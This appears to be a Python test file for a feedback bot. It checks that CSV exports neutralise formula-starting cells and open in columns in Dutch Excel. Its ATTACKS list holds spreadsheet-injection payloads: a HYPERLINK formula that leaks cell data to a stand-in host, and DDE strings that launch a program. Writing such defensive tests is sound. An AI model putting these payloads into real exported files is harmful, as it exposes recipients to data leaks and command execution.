"""The feedback CSV: no cell runs as a formula, and Dutch Excel opens it in columns."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from bot.feedback.questions import parse_own
from bot.feedback.results import PollAnswers, count_round, csv_export
from bot.feedback.spreadsheet import safe_cell
from bot.i18n import Catalogues

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_start_is_shown_as_text(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack


def test_plain_text_and_numbers_stay_as_they_are() -> None:
    assert safe_cell("Meer tijd, graag") == "Meer tijd, graag"
    assert safe_cell("e-mail me = nee") == "e-mail me = nee"
    assert safe_cell(3) == 3
    assert safe_cell(None) == ""


def test_every_cell_of_the_export_is_neutralised_and_excel_gets_semicolons() -> None:
    t = Catalogues(ZoneInfo("Europe/Amsterdam")).translator("nl")
    question = parse_own("=1+1 nuttig? | +ja | @nee")
    assert isinstance(question, dict)
    result = count_round(
        t,
        round_id=1,
        title="-Wijktafel =Oost",
        start=datetime(2026, 12, 1, 18, 30, tzinfo=UTC),
        questions=[question],
        polls=[PollAnswers(0, choice=[0]), PollAnswers(0, choice=[1])],
        invited=2,
        respondents=2,
        remark_question="@Wat kan beter?",
        remarks=ATTACKS,
    )
    data = csv_export(t, result)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0].count(";") == 9  # ten columns, split by Dutch Excel's separator
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []
    assert "'" + ATTACKS[0] in cells
    assert "'-Wijktafel =Oost" in cells
    assert {"'+ja", "'@nee", "'=1+1 nuttig?", "'@Wat kan beter?"} <= set(cells)
